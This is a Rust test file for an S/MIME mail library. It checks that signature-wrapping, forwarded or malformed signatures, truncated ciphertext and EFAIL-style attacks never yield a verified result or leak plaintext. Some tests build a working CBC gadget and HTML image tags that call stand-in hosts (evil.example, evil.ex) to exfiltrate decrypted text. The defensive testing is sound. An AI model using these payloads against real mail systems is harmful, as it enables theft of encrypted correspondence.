//! Messages that lie, are damaged, or are attacks: none is called verified, none leaks, none panics.

use chancery_cms::{SignOptions, SignerKey, sign_attached};
use chancery_crypto::{KeyKind, PrivateKey};
use chancery_pki::{Organisation, issue};
use chancery_smime::{ContentAlgorithm, Delivered, NoTrust, OpeningKey, Outcome};
use proptest::prelude::*;

use crate::{
    openssl::OpenSsl,
    support::{AT, MESSAGE, Party, open_as},
};

const HEADER: &str = "From: joerg@acme.example\r\nTo: hank@globex.example\r\n";

const SECRET: &str = "the secret plan";

fn entity() -> Vec<u8> {
    format!("Content-Type: text/plain\r\n\r\n{SECRET}\r\n").into_bytes()
}

fn mail(entity: &[u8]) -> Vec<u8> {
    [HEADER.as_bytes(), entity].concat()
}

// --- What is covered ---

#[test]
fn a_list_footer_beside_the_signed_part_is_never_verified() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    let signed = openssl.sign(&acme, &[], &entity());
    let signed = String::from_utf8(signed).unwrap().replacen("MIME-Version: 1.0\r\n", "", 1);
    let wrapped = format!(
        "Content-Type: multipart/mixed; boundary=list\r\n\r\n--list\r\n{signed}\r\n--list\r\n\
         Content-Type: text/plain\r\n\r\nPlease pay to another account.\r\n--list--\r\n"
    );
    for (what, message, protection) in [
        ("in clear", mail(wrapped.as_bytes()), "signed"),
        (
            "encrypted",
            mail(&openssl.encrypt(&globex, &["-aes-256-gcm"], wrapped.as_bytes())),
            "signed+encrypted",
        ),
    ] {
        let opened = open_as(&globex, &message, &vec![acme.anchor()]);
        assert_eq!(opened.verdict.result, Outcome::Unverified, "{what}: {:#?}", opened.verdict);
        assert!(opened.codes().contains(&"smime.partially_protected"), "{what}");
        assert_eq!(opened.verdict.protection.as_str(), protection);
        assert!(
            opened.verdict.signers[0].signature_ok && !opened.verdict.signers[0].covers_content
        );
    }
}

#[test]
fn a_forwarded_signed_message_protects_nothing() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    let signed = String::from_utf8(openssl.sign(&acme, &[], &entity())).unwrap();
    let forwarded = format!(
        "Content-Type: multipart/mixed; boundary=fwd\r\n\r\n--fwd\r\nContent-Type: text/plain\r\n\r\nsee below\r\n--fwd\r\n\
         Content-Type: message/rfc822\r\n\r\nFrom: joerg@acme.example\r\n{signed}\r\n--fwd--\r\n"
    );
    let opened = open_as(&globex, &mail(forwarded.as_bytes()), &vec![acme.anchor()]);
    assert_eq!(opened.verdict.result, Outcome::Unprotected, "{:#?}", opened.verdict);
}

#[test]
fn ciphertext_wrapped_in_a_multipart_stays_closed() {
    let (acme, globex) = (Party::acme(), Party::globex());
    let (wire, _) = acme.protect(MESSAGE, &globex, ContentAlgorithm::Aes256Gcm);
    let wire = String::from_utf8(wire).unwrap();
    let part = wire.split_once("MIME-Version: 1.0\r\n").unwrap().1;
    let attack = format!(
        "{HEADER}MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=efail\r\n\r\n--efail\r\n\
         Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n--efail\r\n{part}\r\n--efail\r\n\
         Content-Type: text/html\r\n\r\n\">\r\n--efail--\r\n"
    );
    let opened = open_as(&globex, attack.as_bytes(), &vec![acme.anchor()]);
    assert_eq!((opened.delivered, opened.bytes.len()), (Delivered::AsReceived, 0));
    assert_eq!(opened.verdict.result, Outcome::Unverified);
    assert_eq!(opened.codes(), ["smime.nested_not_opened"]);
}

#[test]
fn a_header_that_some_programs_end_earlier_is_never_verified() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    let trust = vec![acme.anchor()];
    let signed = openssl.sign(&acme, &[], &entity());
    let opaque = openssl.sign(&acme, &["-nodetach"], &entity());
    let sealed = openssl.encrypt(&globex, &["-aes-256-gcm"], &signed);
    for protected in [&signed, &opaque, &sealed] {
        assert_eq!(open_as(&globex, &mail(protected), &trust).verdict.result, Outcome::Verified);
        let mailbox = b"From joerg@acme.example Sat Feb 20 12:27:02 2027\r\n";
        let filed = [&mailbox[..], &mail(protected)].concat();
        assert_eq!(open_as(&globex, &filed, &trust).verdict.result, Outcome::Verified);
        for line in
            ["Dear Hank, please pay.", "Dear Hank: please pay.", " ", "X-A: b\r\r", "X-A : b", "\0"]
        {
            let message =
                [HEADER.as_bytes(), line.as_bytes(), b"\r\n", protected.as_slice()].concat();
            let opened = open_as(&globex, &message, &trust);
            assert_eq!(opened.verdict.result, Outcome::Unverified, "{line:?}");
            assert!(opened.codes().contains(&"smime.signature_malformed"), "{line:?}");
        }
    }
}

#[test]
fn what_nobody_signed_beside_a_signature_is_never_shown_as_verified() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    let trust = vec![acme.anchor()];
    let good = String::from_utf8(mail(&openssl.sign(&acme, &[], &entity()))).unwrap();
    let boundary = good.split("boundary=\"").nth(1).unwrap().split('"').next().unwrap();
    let close = format!("\r\n--{boundary}--");
    let evil = "\r\nContent-Type: text/plain\r\n\r\nplease pay";
    let head = good.find("Content-Type: application/").unwrap();
    let (start, signature) = good.split_at(head);
    let (_, der) = signature.split_once("\r\n\r\n").unwrap();
    let labelled = |label: &str| {
        format!("{start}Content-Type: {label}\r\nContent-Transfer-Encoding: base64\r\n\r\n{der}")
    };
    for label in [
        "application/octet-stream",
        "application/octet-stream; name=smime.p7s",
        "application/octet-stream\r\nContent-Disposition: attachment; filename=\"Sig.P7S\"",
        "application/pkcs7-signature; name=signature",
        "application/x-pkcs7-signature; name=smime.p7m",
    ] {
        let opened = open_as(&globex, labelled(label).as_bytes(), &trust);
        assert_eq!(opened.verdict.result, Outcome::Verified, "{label}: {:?}", opened.codes());
    }
    let delimiter = format!("--{boundary}");
    let stamp = openssl.sign(&acme, &["-econtent_type", "1.2.840.113549.1.9.16.1.4"], &entity());
    let (_, structure) =
        taken_apart(format!("\r\n\r\n{}", der.split_once("\r\n--").unwrap().0).as_bytes());
    let with = |bytes: &[u8]| {
        let der = base64_simd::STANDARD.encode_to_string([&structure, bytes].concat());
        format!(
            "{start}Content-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\n{der}{close}\r\n"
        )
    };
    let opened = open_as(&globex, with(b"\r\n\n").as_bytes(), &trust);
    assert_eq!(opened.verdict.result, Outcome::Verified, "{:?}", opened.codes());
    assert_eq!(opened.codes(), ["smime.header_not_covered"]);
    for (what, message) in [
        ("another type of content", String::from_utf8(mail(&stamp)).unwrap()),
        ("text behind it", with(b"<p>please pay")),
        ("another name", labelled("application/octet-stream; name=\"invoice.html\"")),
        ("another name of a signature", labelled("application/pkcs7-signature; name=a.html")),
        (
            "two names",
            labelled(
                "application/octet-stream; name=a.html\r\nContent-Disposition: attachment; filename=smime.p7s",
            ),
        ),
        ("words in its header", labelled("application/pkcs7-signature\r\nDear Hank, please pay.")),
        ("CR before a delimiter", good.replacen(&close, &format!("\r{delimiter}{evil}{close}"), 1)),
        ("CR behind one", good.replacen(&close, &format!("\r\n{delimiter} \r{evil}{close}"), 1)),
        ("CR at the end", format!("{good}\r{delimiter}{evil}")),
    ] {
        assert_ne!(message, good, "{what}");
        let opened = open_as(&globex, message.as_bytes(), &trust);
        assert_ne!(opened.verdict.result, Outcome::Verified, "{what}");
        assert!(opened.codes().contains(&"smime.signature_malformed"), "{what}");
    }
}

#[test]
fn malformed_multipart_signed_is_never_verified() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    let good = String::from_utf8(mail(&openssl.sign(&acme, &[], &entity()))).unwrap();
    let boundary = good.split("boundary=\"").nth(1).unwrap().split('"').next().unwrap().to_owned();
    let delimiter = format!("\r\n--{boundary}\r\n");
    let parts: Vec<&str> = good.split(&delimiter).collect();
    let [head, content, signature] = parts.as_slice() else { panic!("{good}") };
    let close = format!("\r\n--{boundary}--\r\n");
    let signature_head = signature.split_once("\r\n\r\n").unwrap().0;
    let cases = [
        (
            "three parts",
            format!("{head}{delimiter}{content}{delimiter}{signature}").replace(
                &close,
                &format!("{delimiter}Content-Type: text/plain\r\n\r\nmore{close}"),
            ),
            Outcome::Failed,
        ),
        (
            "content twice",
            format!("{head}{delimiter}{content}{delimiter}{content}{delimiter}{signature}"),
            Outcome::Failed,
        ),
        ("no signature", format!("{head}{delimiter}{content}{close}"), Outcome::Failed),
        (
            "empty signature",
            format!("{head}{delimiter}{content}{delimiter}{signature_head}\r\n\r\n{close}"),
            Outcome::Failed,
        ),
        (
            "rubbish signature",
            format!("{head}{delimiter}{content}{delimiter}{signature_head}\r\n\r\nAAAA{close}"),
            Outcome::Failed,
        ),
        ("changed content", good.replace(SECRET, "another plan"), Outcome::Failed),
        (
            "added at the end of the content",
            good.replace(SECRET, &format!("{SECRET}\r\n")),
            Outcome::Failed,
        ),
        (
            "parts in the wrong order",
            format!(
                "{head}{delimiter}{}{delimiter}{content}{close}",
                signature.replace(&close, "")
            ),
            Outcome::Failed,
        ),
        ("two Froms", format!("From: other@acme.example\r\n{good}"), Outcome::Unverified),
        (
            "two types",
            good.replacen("Content-Type:", "Content-Type: text/html\r\nContent-Type:", 1),
            Outcome::Unprotected,
        ),
        (
            "two types, ours first",
            good.replacen("\r\n\r\n", "\r\nContent-Type: text/html\r\n\r\n", 1),
            Outcome::Unverified,
        ),
    ];
    let trust = vec![acme.anchor()];
    assert_eq!(open_as(&globex, good.as_bytes(), &trust).verdict.result, Outcome::Verified);
    for (what, message, result) in cases {
        assert_ne!(message, good, "{what}");
        let opened = open_as(&globex, message.as_bytes(), &trust);
        assert_eq!(opened.verdict.result, result, "{what}: {:#?}", opened.verdict);
        assert_eq!(opened.delivered, Delivered::AsReceived, "{what}");
    }
}

#[test]
fn a_changed_opaque_signature_is_left_as_it_came() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    let message = mail(&openssl.sign(&acme, &["-nodetach"], &entity()));
    let (header, mut der) = taken_apart(&message);
    let at = der.windows(SECRET.len()).position(|window| window == SECRET.as_bytes()).unwrap();
    der[at] ^= 1;
    let opened = open_as(&globex, &put_together(&header, &der), &vec![acme.anchor()]);
    assert_eq!(opened.verdict.result, Outcome::Failed, "{:#?}", opened.verdict);
    assert_eq!(opened.codes(), ["smime.signature_bad"]);
    assert_eq!(opened.delivered, Delivered::AsReceived);
}

#[test]
fn tolerated_changes_are_noted() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    let good = String::from_utf8(mail(&openssl.sign(&acme, &[], &entity()))).unwrap();
    for (message, code) in [
        (good.replace("\r\n", "\n"), "smime.line_endings"),
        (good.replace("micalg=\"sha-256\"", "micalg=\"sha1\""), "smime.micalg"),
    ] {
        assert_ne!(message, good);
        let opened = open_as(&globex, message.as_bytes(), &vec![acme.anchor()]);
        assert_eq!(opened.verdict.result, Outcome::Verified, "{:#?}", opened.verdict);
        assert_eq!(opened.codes(), [code, "smime.header_not_covered"]);
    }
}

#[test]
fn a_structure_under_a_wrong_or_missing_encoding_is_read() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    let trust = vec![acme.anchor()];
    let opaque = mail(&openssl.sign(&acme, &["-nodetach"], &entity()));
    let sealed = mail(&openssl.encrypt(&globex, &["-aes-256-gcm"], &opaque[HEADER.len()..]));
    let detached = mail(&openssl.sign(&acme, &[], &entity()));
    let label = "Content-Transfer-Encoding: base64\r\n";
    for good in [opaque, sealed, detached] {
        let good = String::from_utf8(good).unwrap();
        assert!(good.contains(label), "{good}");
        for other in
            ["", "Content-Transfer-Encoding: 7bit\r\n", "Content-Transfer-Encoding: base-64\r\n"]
        {
            let opened = open_as(&globex, good.replace(label, other).as_bytes(), &trust);
            assert_eq!(opened.verdict.result, Outcome::Verified, "{other}: {:?}", opened.codes());
        }
        let (at, structure) = good.split_at(good.rfind("\r\n\r\nMI").unwrap() + 4);
        let end =
            structure.find("\r\n\r\n").or(structure.find("\r\n--")).unwrap_or(structure.len());
        let (structure, rest) = structure.split_at(end);
        let pem =
            format!("{at}-----BEGIN PKCS7-----\r\n{structure}\r\n-----END PKCS7-----\r\n{rest}");
        let opened = open_as(&globex, pem.replace(label, "").as_bytes(), &trust);
        assert_eq!(opened.verdict.result, Outcome::Verified, "{pem}: {:?}", opened.codes());
    }
    let (header, der) = taken_apart(&mail(&openssl.sign(&acme, &["-nodetach"], &entity())));
    let opened = open_as(&globex, &[header, der].concat(), &trust);
    assert_eq!(opened.verdict.result, Outcome::Verified, "binary: {:?}", opened.codes());
}

#[test]
fn what_is_no_protection_is_called_by_its_name() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    let trust = vec![acme.anchor()];
    let head = "Content-Type: application/pkcs7-mime; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n";
    // ContentInfo of the type data with two bytes (RFC 5652 section 4).
    let data = b"\x30\x11\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01\xa0\x04\x04\x02hi";
    let opened = open_as(&globex, &put_together(&mail(head.as_bytes()), data), &trust);
    assert_eq!(opened.verdict.result, Outcome::Unprotected, "{:#?}", opened.verdict);
    assert_eq!(
        (opened.codes(), opened.verdict.protection.as_str()),
        (vec!["smime.malformed"], "none")
    );

    let signed = String::from_utf8(mail(&openssl.sign(&acme, &[], &entity()))).unwrap();
    // SignedData of detached content without signers (RFC 5652 section 5.1).
    let nobody = b"\x30\x23\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02\xa0\x16\x30\x14\x02\x01\x01\x31\x00\x30\x0b\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01\x31\x00";
    let at = signed.rfind("\r\n\r\nMI").unwrap() + 4;
    let close = at + signed[at..].find("\r\n--").or(signed[at..].find("\r\n\r\n--")).unwrap();
    let structure = base64_simd::STANDARD.encode_to_string(nobody);
    let message = [&signed[..at], &structure, &signed[close..]].concat();
    let opened = open_as(&globex, message.as_bytes(), &trust);
    assert_eq!(opened.verdict.result, Outcome::Failed, "{:#?}", opened.verdict);
    assert_eq!(opened.codes(), ["smime.signature_malformed"]);

    let message = [&b"X-Long: "[..], &vec![b'a'; 300_000], b"\r\n", signed.as_bytes()].concat();
    let opened = open_as(&globex, &message, &trust);
    assert_eq!(opened.verdict.result, Outcome::Unverified, "{:#?}", opened.verdict);
    assert!(opened.codes().contains(&"smime.header_too_large"), "{:?}", opened.codes());
}

#[test]
fn sha1_is_read_and_not_believed() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    let message = mail(&openssl.sign(&acme, &["-md", "sha1"], &entity()));
    let opened = open_as(&globex, &message, &vec![acme.anchor()]);
    assert_ne!(opened.verdict.result, Outcome::Verified, "{:#?}", opened.verdict);
    assert!(opened.codes().contains(&"smime.weak_algorithm"), "{:#?}", opened.verdict);
}

// --- Damage and attacks on the encryption ---

#[test]
fn a_changed_gcm_message_releases_nothing() {
    let (acme, globex) = (Party::acme(), Party::globex());
    let (wire, _) = acme.protect(MESSAGE, &globex, ContentAlgorithm::Aes256Gcm);
    let (header, mut der) = taken_apart(&wire);
    let last = der.len() - 1;
    for at in [der.len() / 2, last - 5, last] {
        der[at] ^= 1;
        let opened = open_as(&globex, &put_together(&header, &der), &vec![acme.anchor()]);
        der[at] ^= 1;
        assert_eq!(opened.verdict.result, Outcome::Undecipherable, "{at}: {:#?}", opened.verdict);
        assert_eq!((opened.delivered, opened.bytes.len()), (Delivered::Nothing, 0));
    }
}

#[test]
fn a_changed_cbc_message_with_a_signature_is_withheld() {
    let (acme, globex) = (Party::acme(), Party::globex());
    let (wire, _) = acme.protect(MESSAGE, &globex, ContentAlgorithm::Aes256Cbc);
    let (header, der) = taken_apart(&wire);
    let start = iv_at(&der) + 16 + 400;
    for at in [start, start + 100, start + 300] {
        let mut der = der.clone();
        der[at] ^= 1;
        let opened = open_as(&globex, &put_together(&header, &der), &vec![acme.anchor()]);
        assert_eq!(opened.verdict.result, Outcome::Undecipherable);
        assert_eq!(opened.verdict.public_code().unwrap().id, "smime.undecipherable");
        assert_eq!(
            (opened.delivered, opened.bytes.len()),
            (Delivered::Nothing, 0),
            "{:#?}",
            opened.verdict
        );
    }
}

#[test]
fn a_cbc_gadget_that_turns_a_signed_message_into_html_is_withheld() {
    let (acme, globex) = (Party::acme(), Party::globex());
    let (wire, _) = acme.protect(MESSAGE, &globex, ContentAlgorithm::Aes256Cbc);
    let (header, der) = taken_apart(&wire);
    let iv = iv_at(&der);
    let first = iv + 16 + der[iv + 16..].iter().position(|&byte| byte == 0x04).unwrap();
    let first =
        first + if der[first + 1] < 0x80 { 2 } else { 2 + usize::from(der[first + 1] & 0x7f) };
    let known = b"Content-Type: mu";
    // The block before the first ciphertext block decides what the first one decrypts to (Efail, section 4.1).
    let mask: Vec<u8> = der[iv..iv + 16].iter().zip(known).map(|(iv, known)| iv ^ known).collect();
    let before = |text: &[u8; 16]| -> Vec<u8> {
        mask.iter().zip(text).map(|(mask, text)| mask ^ text).collect()
    };
    let cipher = der[first..first + 16].to_vec();
    let mut attack = der.clone();
    attack[iv..iv + 16].copy_from_slice(&before(b"Content-Type: te"));
    let gadget = [
        cipher.clone(),
        before(b"xt/html\r\n\r\n<img "),
        cipher.clone(),
        before(b" src='//evil.ex/"),
        cipher,
    ]
    .concat();
    attack[first..first + gadget.len()].copy_from_slice(&gadget);
    let opened = open_as(&globex, &put_together(&header, &attack), &vec![acme.anchor()]);
    assert_ne!(opened.verdict.result, Outcome::Verified);
    assert_eq!(
        (opened.delivered, opened.bytes.len()),
        (Delivered::Nothing, 0),
        "{}",
        opened.text()
    );
    assert!(opened.codes().contains(&"smime.content_withheld"), "{:?}", opened.codes());
}

#[test]
fn what_a_gadget_garbled_is_withheld_wherever_its_bytes_fall() {
    let (acme, globex, openssl) = (Party::acme(), Party::globex(), OpenSsl::new());
    for content in [
        &b"Content-Type: te\x8f\x01xt/html\r\n\r\n<img src='//evil.ex/'>"[..],
        // A line end among the bytes: no header is left to be seen.
        b"Content-Type: te\x8f\nxt/html\r\n\r\n<img src='//evil.ex/'>",
        b"\x8f\x01Hello\r\n\r\nsecret",
    ] {
        let sealed = openssl.encrypt(&globex, &["-aes256"], content);
        let message = [b"From: joerg@acme.example\r\n", &sealed[..]].concat();
        let opened = open_as(&globex, &message, &vec![acme.anchor()]);
        assert_eq!((opened.delivered, opened.bytes.len()), (Delivered::Nothing, 0));
        assert_eq!(opened.verdict.result, Outcome::Undecipherable);
    }
}

#[test]
fn noise_in_the_body_of_a_cbc_message_that_nobody_signed_is_withheld() {
    let (globex, openssl) = (Party::globex(), OpenSsl::new());
    let text = "The plan is as secret as it was, and we meet at noon. ".repeat(8);
    let seal = |content: &[u8]| mail(&openssl.encrypt(&globex, &["-aes256"], content));
    for (head, body) in [
        ("text/plain; charset=us-ascii", text.clone()),
        ("text/html; charset=utf-8", format!("<p>Gr\u{fc}\u{df}e. {text}</p>")),
        ("text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable", text.clone()),
        (
            "application/pdf\r\nContent-Transfer-Encoding: base64",
            base64_simd::STANDARD.encode_to_string(&text),
        ),
        (
            "multipart/mixed; boundary=b",
            format!("--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n--b--"),
        ),
    ] {
        let content = format!("Content-Type: {head}\r\n\r\n{body}\r\n");
        let whole = seal(content.as_bytes());
        let opened = open_as(&globex, &whole, &Vec::new());
        assert_eq!(opened.verdict.result, Outcome::Unverified, "{head}: {:?}", opened.codes());
        let (header, der) = taken_apart(&whole);
        // Behind the header inside, whose noise is found for another reason, and before the padding.
        let first = iv_at(&der) + 16 + (head.len() / 16 + 8) * 16;
        for at in (first..der.len() - 40).step_by(16) {
            let mut der = der.clone();
            der[at] ^= 1;
            let opened = open_as(&globex, &put_together(&header, &der), &Vec::new());
            assert_eq!(opened.verdict.result, Outcome::Undecipherable, "{head} {at}");
            assert_eq!((opened.delivered, opened.bytes.len()), (Delivered::Nothing, 0));
            assert!(opened.codes().contains(&"smime.content_withheld"), "{:?}", opened.codes());
        }
    }
    // What careless programs write is none.
    for content in [
        &b"Content-Type: text/plain; charset=windows-1252\r\n\r\n\x93Gr\xfc\xdfe\x94 \x0b\r\n"[..],
        b"Content-Type: text/plain\r\n\r\nGr\xfc\xdfe\r\n",
        b"Content-Type: text/plain; charset=iso-2022-jp\r\n\r\n\x1b$B8+\x1b(B\r\n",
        b"Content-Type: image/png\r\nContent-Transfer-Encoding: binary\r\n\r\n\x89PNG\x00\x01\x02\r\n",
        b"Content-Type: text/plain; charset=utf-16le\r\nContent-Transfer-Encoding: binary\r\n\r\nH\0i\0",
    ] {
        let opened = open_as(&globex, &seal(content), &Vec::new());
        assert_eq!(opened.verdict.result, Outcome::Unverified, "{content:?}: {:?}", opened.codes());
    }
}

#[test]
fn decryption_failures_look_alike() {
    let acme = Party::acme();
    let globex = Party::new("Globex", "globex.example", KeyKind::Rsa2048);
    let (wire, _) = acme.protect(MESSAGE, &globex, ContentAlgorithm::Aes256Gcm);
    let (header, der) = taken_apart(&wire);
    let mut tag = der.clone();
    let middle = tag.len() / 2;
    tag[middle] ^= 1;
    let mut problems = Vec::new();
    // Another key with the same names in its certificate: the content key does not unwrap.
    let mut other = Party::new("Globex", "globex.example", KeyKind::Rsa2048);
    other.encryption_key = PrivateKey::generate(KeyKind::Rsa2048).unwrap();
    let organisation = Organisation::new("Globex", ["globex.example"]).unwrap();
    let authority = issue::Authority { key: &other.ca_key, certificate: &other.ca };
    let public = other.encryption_key.public_key();
    other.encryption =
        issue::organisation_encryption(&organisation, &authority, public, AT - 86_400, [3; 20])
            .unwrap();
    for (reader, message) in [(&globex, put_together(&header, &tag)), (&other, wire)] {
        let opened = open_as(reader, &message, &vec![acme.anchor()]);
        assert_eq!(opened.verdict.result, Outcome::Undecipherable);
        problems.push((opened.verdict.problems, opened.verdict.encryption, opened.verdict.form));
    }
    assert_eq!(problems[0], problems[1]);
    assert_eq!(problems[0].0[0].code, "smime.undecipherable");
}

#[test]
fn a_cut_message_releases_nothing() {
    let (acme, globex) = (Party::acme(), Party::globex());
    for cipher in [ContentAlgorithm::Aes256Gcm, ContentAlgorithm::Aes256Cbc] {
        let (wire, _) = acme.protect(MESSAGE, &globex, cipher);
        let body = wire.windows(4).position(|window| window == b"\r\n\r\n").unwrap() + 4;
        for end in (body..wire.len() - 4).step_by(173) {
            let opened = open_as(&globex, &wire[..end], &vec![acme.anchor()]);
            assert_eq!(
                opened.verdict.result,
                Outcome::Undecipherable,
                "{end}: {:#?}",
                opened.verdict
            );
            assert_eq!((opened.delivered, opened.bytes.len()), (Delivered::Nothing, 0));
        }
    }
}

#[test]
fn line_ends_inside_cannot_smuggle() {
    let (acme, globex) = (Party::acme(), Party::globex());
    let hidden = b"From: a@acme.example\r\n\r\nfirst\n.\r\nMAIL FROM:<x>\rbare\r\n";
    let (wire, _) = acme.protect(hidden, &globex, ContentAlgorithm::Aes256Gcm);
    let opened = open_as(&globex, &wire, &vec![acme.anchor()]);
    assert_eq!(opened.codes(), ["smime.line_endings"]);
    assert_eq!(
        opened.text(),
        "From: a@acme.example\r\n\r\nfirst\r\n.\r\nMAIL FROM:<x>\r\nbare\r\n"
    );
}

// --- Size and depth ---

#[test]
fn layers_beyond_the_limit_stay_closed() {
    let (acme, globex) = (Party::acme(), Party::globex());
    let key = [SignerKey::new(acme.signing_key.clone(), acme.signing.der()).unwrap()];
    let mut content = entity();
    for depth in 1..=12 {
        let der = sign_attached(&content, &key, &[], &SignOptions::default()).unwrap();
        let head = b"Content-Type: application/pkcs7-mime; smime-type=signed-data\r\nContent-Transfer-Encoding: binary\r\n\r\n";
        content = [&head[..], &der].concat();
        let opened = open_as(&globex, &mail(&content), &vec![acme.anchor()]);
        let (result, released) =
            if depth <= 8 { (Outcome::Verified, true) } else { (Outcome::Unverified, false) };
        assert_eq!(opened.verdict.result, result, "{depth}: {:#?}", opened.verdict);
        assert_eq!(opened.text().ends_with(&format!("\r\n\r\n{SECRET}\r\n")), released, "{depth}");
    }
}

#[test]
fn a_header_without_end_is_unprotected_and_left_alone() {
    let (acme, globex) = (Party::acme(), Party::globex());
    let (wire, _) = acme.protect(MESSAGE, &globex, ContentAlgorithm::Aes256Gcm);
    let message = [b"X: ".to_vec(), vec![b'x'; 10_000_000], b"\r\n".to_vec(), wire].concat();
    let opened = open_as(&globex, &message, &vec![acme.anchor()]);
    assert_eq!(opened.delivered, Delivered::AsReceived);
    assert_ne!(opened.verdict.result, Outcome::Verified);
    assert_eq!(opened.codes(), ["smime.header_too_large"]);
}

#[test]
fn a_hundred_keys_do_not_hide_the_right_one() {
    let (acme, globex) = (Party::acme(), Party::globex());
    let (wire, _) = acme.protect(MESSAGE, &globex, ContentAlgorithm::Aes256Gcm);
    let mut keys: Vec<OpeningKey> = (0..5).map(|_| Party::acme().opening()).collect();
    keys.push(globex.opening());
    let our_domains = [globex.domain.clone()];
    let facts = chancery_smime::OpenFacts { at: AT, our_domains: &our_domains };
    let mut bytes = Vec::new();
    let opened = chancery_smime::open(
        &mut std::io::Cursor::new(&wire),
        &keys,
        &vec![acme.anchor()],
        &facts,
        &mut chancery_smime::MemorySpools::new(1 << 20),
        &mut bytes,
    )
    .unwrap();
    assert_eq!((opened.verdict.result, bytes.as_slice()), (Outcome::Verified, MESSAGE));
    assert_eq!(
        opened.verdict.encryption.unwrap().recipient.as_deref(),
        Some(keys[5].fingerprint())
    );
}

#[test]
fn a_full_spool_is_our_error_and_no_verdict() {
    let (acme, globex) = (Party::acme(), Party::globex());
    let (wire, _) = acme.protect(MESSAGE, &globex, ContentAlgorithm::Aes256Gcm);
    let facts = chancery_smime::OpenFacts { at: AT, our_domains: &[] };
    let mut bytes = Vec::new();
    let failed = chancery_smime::open(
        &mut std::io::Cursor::new(&wire),
        &[globex.opening()],
        &NoTrust,
        &facts,
        &mut chancery_smime::MemorySpools::new(100),
        &mut bytes,
    )
    .unwrap_err();
    assert_eq!(chancery_fault::Coded::code(&failed).id, "smime.io");
    assert!(bytes.is_empty());
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(150))]

    #[test]
    fn a_changed_message_is_never_verified_with_other_content(
        at in 0_usize..100_000, bit in 0_u8..8, is_gcm in any::<bool>(), is_cut in any::<bool>(),
    ) {
        let (acme, globex) = (Party::acme(), Party::globex());
        let cipher = if is_gcm { ContentAlgorithm::Aes256Gcm } else { ContentAlgorithm::Aes256Cbc };
        let (wire, _) = acme.protect(MESSAGE, &globex, cipher);
        let (header, mut der) = taken_apart(&wire);
        let at = at % der.len();
        if is_cut {
            der.truncate(at);
        } else {
            der[at] ^= 1 << bit;
        }
        let opened = open_as(&globex, &put_together(&header, &der), &vec![acme.anchor()]);
        if opened.verdict.result == Outcome::Verified {
            prop_assert_eq!(&opened.bytes, MESSAGE);
        }
    }

    #[test]
    fn rubbish_never_panics_and_is_never_verified(
        head in "(From: a@b\r\n)?(Content-Type: (multipart/signed; boundary=b; protocol=\"application/pkcs7-signature\"|application/pkcs7-mime(; smime-type=(signed-data|enveloped-data))?|message/rfc822; forwarded=no)\r\n)?(Content-Transfer-Encoding: (base64|binary|quoted-printable)\r\n)?\r\n",
        body in prop::collection::vec(any::<u8>(), 0..300),
        text in "(--b(--)?\r?\n|Content-Type: application/pkcs7-signature\r\n|[A-Za-z0-9+/=]{1,9}|\r?\n){0,12}",
    ) {
        let globex = Party::globex();
        for body in [body.as_slice(), text.as_bytes()] {
            let opened = open_as(&globex, &[head.as_bytes(), body].concat(), &NoTrust);
            prop_assert_ne!(opened.verdict.result, Outcome::Verified);
        }
    }
}

/// Returns the header and the CMS structure of a message on the wire.
fn taken_apart(wire: &[u8]) -> (Vec<u8>, Vec<u8>) {
    let at = wire.windows(4).position(|window| window == b"\r\n\r\n").unwrap() + 4;
    let text: Vec<u8> =
        wire[at..].iter().copied().filter(|byte| !byte.is_ascii_whitespace()).collect();
    (wire[..at].to_vec(), base64_simd::STANDARD.decode_to_vec(text).unwrap())
}

fn put_together(header: &[u8], der: &[u8]) -> Vec<u8> {
    [header, base64_simd::STANDARD.encode_to_string(der).as_bytes(), b"\r\n"].concat()
}

/// Returns where the initialisation vector of AES-256-CBC is.
fn iv_at(der: &[u8]) -> usize {
    let oid = [0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x01, 0x2a, 0x04, 0x10];
    der.windows(oid.len()).position(|window| window == oid).unwrap() + oid.len()
}
